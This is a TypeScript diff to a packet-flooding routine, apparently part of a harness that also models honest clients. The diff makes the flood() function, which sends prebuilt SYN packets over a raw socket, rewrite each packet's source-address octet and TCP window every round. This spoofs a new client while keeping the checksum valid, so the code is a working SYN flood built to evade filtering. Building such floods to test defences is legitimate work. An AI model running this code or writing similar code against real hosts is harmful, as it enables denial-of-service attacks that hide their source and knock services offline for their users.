@@ -28,10 +28,20 @@ function flood(): void {
   const socket = new RawSocket(address!)
   const packets = Array.from({ length: 50_000 }, (_, i) => syns.subarray(i * SYN_LENGTH, (i + 1) * SYN_LENGTH))
   console.log('ready')
-  let sent = 0
-  for (const end = performance.now() + ms; performance.now() < end; ) {
-    for (let i = 0; i < 100; i++) socket.send(packets[sent++ % packets.length]!)
+  const end = performance.now() + ms
+  for (let round = 1; performance.now() < end; round = (round + 1) % 16) {
+    for (const [i, packet] of packets.entries()) {
+      if (i % 100 === 0 && performance.now() >= end) return
+      socket.send(packet)
+      become(packet, round)
+    }
   }
+}
+
+/** Another client's SYN with the same checksum: what the source's second octet gains, the window loses. */
+function become(packet: Uint8Array, round: number): void {
+  packet[13] = (packet[13]! & 15) | (round << 4)
+  packet[35] = 255 - (round << 4)
 }
 
 async function honest(): Promise<Clients[]> {
